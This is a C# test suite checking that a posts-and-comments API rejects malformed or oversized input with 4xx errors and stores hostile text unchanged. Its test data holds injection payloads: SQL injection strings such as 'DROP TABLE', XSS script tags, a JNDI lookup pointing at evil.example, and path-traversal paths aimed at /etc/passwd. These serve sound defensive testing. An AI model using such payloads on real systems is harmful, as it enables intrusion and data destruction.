using ScalableApi.Content.Comments;
using ScalableApi.Content.Posts;

namespace ScalableApi.Content.Tests.Security;

/// <summary>
/// Hostile or broken input never produces a 5xx and never changes data; text that looks like SQL or HTML is
/// stored and returned exactly as sent (encoding is the renderer's job).
/// </summary>
public abstract class HostileInputTests(ServiceFactory<Program> factory)
{
    private readonly ContentApi _api = new(factory);

    public static TheoryData<string> MalformedJson => new()
    {
        """{"title": "x",""",
        "not json at all",
        "",
        "null",
        "[]",
        "\"just a string\"",
        """{"title":"a","body":"b"} {"title":"again"}""",
        """{"title":"a","body":"b",}""",
        """{'title':'a','body':'b'}""",
    };

    [SkippableTheory]
    [MemberData(nameof(MalformedJson))]
    public async Task Malformed_json_is_400_and_stores_nothing(string json)
    {
        var (userId, post) = await FreshUserAndTheirPostAsync();
        using var client = _api.As(userId);

        using var createPost = await client.PostAsync("/api/posts", Json(json));
        using var createComment = await client.PostAsync($"/api/posts/{post.Id}/comments", Json(json));

        await ProblemAssert.IsProblemAsync(createPost, HttpStatusCode.BadRequest);
        await ProblemAssert.IsProblemAsync(createComment, HttpStatusCode.BadRequest);
        await AssertUnchangedAsync(userId, post);
    }

    [SkippableTheory]
    [InlineData("""{"title":5,"body":"b"}""", "title")]
    [InlineData("""{"title":"t","body":true}""", "body")]
    [InlineData("""{"title":["a"],"body":"b"}""", "title")]
    [InlineData("""{"title":{"$ne":null},"body":"b"}""", "title")]
    [InlineData("""{"title":"t","body":12.5}""", "body")]
    public async Task Wrong_json_types_are_400_naming_the_field(string json, string field)
    {
        var (userId, post) = await FreshUserAndTheirPostAsync();
        using var client = _api.As(userId);

        using var createPost = await client.PostAsync("/api/posts", Json(json));
        using var createComment = await client.PostAsync($"/api/posts/{post.Id}/comments", Json("""{"body":["not","a","string"]}"""));

        await ProblemAssert.HasFieldErrorAsync(createPost, field);
        await ProblemAssert.HasFieldErrorAsync(createComment, "body");
        await AssertUnchangedAsync(userId, post);
    }

    /// <summary>JSON accepts escaped lone surrogates; they have no UTF-8 form, so neither engine could store them as sent.</summary>
    [SkippableTheory]
    [InlineData("""{"title":"lone \ud800 high","body":"b"}""", "title")]
    [InlineData("""{"title":"t","body":"lone \udfff low"}""", "body")]
    [InlineData("""{"title":"t","body":"reversed \udc00\ud800 pair"}""", "body")]
    [InlineData("""{"title":"t","body":"ends high \ud83d"}""", "body")]
    public async Task Lone_surrogates_are_400_naming_the_field(string json, string field)
    {
        var (userId, post) = await FreshUserAndTheirPostAsync();
        using var client = _api.As(userId);
        var commentJson = field == "body" ? json.Replace("\"title\":\"t\",", "", StringComparison.Ordinal) : """{"body":"lone \ud800"}""";

        using var createPost = await client.PostAsync("/api/posts", Json(json));
        using var createComment = await client.PostAsync($"/api/posts/{post.Id}/comments", Json(commentJson));

        await ProblemAssert.HasFieldErrorAsync(createPost, field);
        await ProblemAssert.HasFieldErrorAsync(createComment, "body");
        await AssertUnchangedAsync(userId, post);
    }

    [SkippableFact]
    public async Task Body_of_2_MiB_is_413_and_stores_nothing()
    {
        var (userId, post) = await FreshUserAndTheirPostAsync();
        using var client = _api.As(userId);
        var huge = new string('x', 2 * 1024 * 1024);

        using var createPost = await client.PostAsync("/api/posts", Json($$"""{"title":"t","body":"{{huge}}"}"""));
        using var createComment = await client.PostAsync($"/api/posts/{post.Id}/comments", Json($$"""{"body":"{{huge}}"}"""));

        await ProblemAssert.IsProblemAsync(createPost, HttpStatusCode.RequestEntityTooLarge);
        await ProblemAssert.IsProblemAsync(createComment, HttpStatusCode.RequestEntityTooLarge);
        await AssertUnchangedAsync(userId, post);
    }

    [SkippableFact]
    public async Task Wrong_content_type_is_415_and_stores_nothing()
    {
        var (userId, post) = await FreshUserAndTheirPostAsync();
        using var client = _api.As(userId);

        using var createPost = await client.PostAsync("/api/posts", new StringContent("title=t&body=b", Encoding.UTF8, "application/x-www-form-urlencoded"));
        using var createComment = await client.PostAsync($"/api/posts/{post.Id}/comments", new StringContent("""{"body":"b"}""", Encoding.UTF8, "text/plain"));

        await ProblemAssert.IsProblemAsync(createPost, HttpStatusCode.UnsupportedMediaType);
        await ProblemAssert.IsProblemAsync(createComment, HttpStatusCode.UnsupportedMediaType);
        await AssertUnchangedAsync(userId, post);
    }

    public static TheoryData<string> HostileText => new()
    {
        "'; DROP TABLE posts;--",
        "Robert'); DROP TABLE comments; --",
        "\" OR \"1\"=\"1",
        "1; DELETE FROM posts WHERE 1=1",
        "<script>alert('xss')</script>",
        "<img src=x onerror=\"alert(1)\"> & &amp; &lt;",
        "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
        "../../../../etc/passwd",
        "Zalgo z̷̢͉a̵l̶g̸o, emoji 👩‍👩‍👧‍👦 🌍, RTL ‮override‬, CJK 漢字, ZWJ a\u200Db",
        "back\\slash \"quotes\" and\ttabs\r\nand newlines",
        "$1 @Id :name ? -- /* comment */",
    };

    [SkippableTheory]
    [MemberData(nameof(HostileText))]
    public async Task Hostile_text_is_stored_and_returned_verbatim(string text)
    {
        var authorId = ContentApi.NewUserId();
        var post = await _api.CreatePostAsync(authorId, text, text);
        var comment = await _api.CreateCommentAsync(post.Id, authorId, text);
        using var client = _api.Anonymous();

        using var read = await client.GetAsync($"/api/posts/{post.Id}");
        var raw = await read.Content.ReadAsStringAsync();

        Assert.Equal(text, post.Title);
        Assert.Equal(text, post.Body);
        Assert.Equal(text, comment.Body);
        var stored = (await client.GetFromJsonAsync<Post>($"/api/posts/{post.Id}"))!;
        Assert.Equal((text, text, 1L), (stored.Title, stored.Body, stored.CommentCount));
        Assert.Equal(text, (await client.GetFromJsonAsync<Comment>($"/api/comments/{comment.Id}"))!.Body);
        Assert.Equal([post.Id], (await _api.GetPageAsync<Post>($"/api/users/{authorId}/posts")).Items.Select(p => p.Id));
        if (text.Contains('<', StringComparison.Ordinal))
        {
            // Not HTML-escaped (neither \u003C nor &lt;): the JSON carries the characters themselves.
            Assert.Contains(text[..text.IndexOfAny([' ', '>'])], raw, StringComparison.Ordinal);
            Assert.DoesNotContain("\\u003C", raw, StringComparison.OrdinalIgnoreCase);
        }
    }

    [SkippableFact]
    public async Task Unknown_and_server_owned_fields_are_ignored()
    {
        var authorId = ContentApi.NewUserId();
        using var client = _api.As(authorId);

        using var response = await client.PostAsync("/api/posts", Json("""
            {"title":"t","body":"b","id":1,"authorId":42,"commentCount":999,"createdAt":"2000-01-01T00:00:00Z","isAdmin":true}
            """));

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var post = (await response.Content.ReadFromJsonAsync<Post>())!;
        Assert.Equal(authorId, post.AuthorId);
        Assert.Equal(0, post.CommentCount);
        Assert.True(post.CreatedAt > new DateTime(2020, 1, 1, 0, 0, 0, DateTimeKind.Utc));

        using var comment = await client.PostAsync($"/api/posts/{post.Id}/comments", Json("""{"body":"c","postId":1,"authorId":42}"""));
        Assert.Equal(HttpStatusCode.Created, comment.StatusCode);
        var stored = (await comment.Content.ReadFromJsonAsync<Comment>())!;
        Assert.Equal((post.Id, authorId), (stored.PostId, stored.AuthorId));
    }

    [SkippableTheory]
    [InlineData("/api/posts/abc")]
    [InlineData("/api/posts/1%20OR%201=1")]
    [InlineData("/api/posts/99999999999999999999")]
    [InlineData("/api/posts/1;DROP%20TABLE%20posts")]
    [InlineData("/api/posts/-1")]
    [InlineData("/api/posts/0/comments")]
    [InlineData("/api/users/abc/posts")]
    [InlineData("/api/users/1'--/comments")]
    [InlineData("/api/comments/%2e%2e%2fposts")]
    public async Task Hostile_paths_are_404_never_5xx(string path)
    {
        using var client = _api.As(ContentApi.NewUserId());

        using var get = await client.GetAsync(path);
        using var delete = await client.DeleteAsync(path);

        await ProblemAssert.IsProblemAsync(get, HttpStatusCode.NotFound);
        Assert.True((int)delete.StatusCode is >= 400 and < 500, $"DELETE {path}: {delete.StatusCode}");
    }

    private static StringContent Json(string json) => new(json, Encoding.UTF8, "application/json");

    private async Task<(long UserId, Post Post)> FreshUserAndTheirPostAsync()
    {
        var userId = ContentApi.NewUserId();
        return (userId, await _api.CreatePostAsync(userId, "existing", "existing"));
    }

    /// <summary>The user still has exactly their one post, unchanged and without comments, and no comments of their own.</summary>
    private async Task AssertUnchangedAsync(long userId, Post post)
    {
        var posts = await _api.GetPageAsync<Post>($"/api/users/{userId}/posts");
        Assert.Equal([post], posts.Items);
        Assert.Empty((await _api.GetPageAsync<Comment>($"/api/users/{userId}/comments")).Items);
        Assert.Empty((await _api.GetPageAsync<Comment>($"/api/posts/{post.Id}/comments")).Items);
    }
}

public sealed class SqliteHostileInputTests(SqliteFixture fixture) : HostileInputTests(fixture), IClassFixture<SqliteFixture>;

public sealed class PostgresHostileInputTests(PostgresFixture fixture) : HostileInputTests(TestDatabase.RequirePostgres(fixture)), IClassFixture<PostgresFixture>;
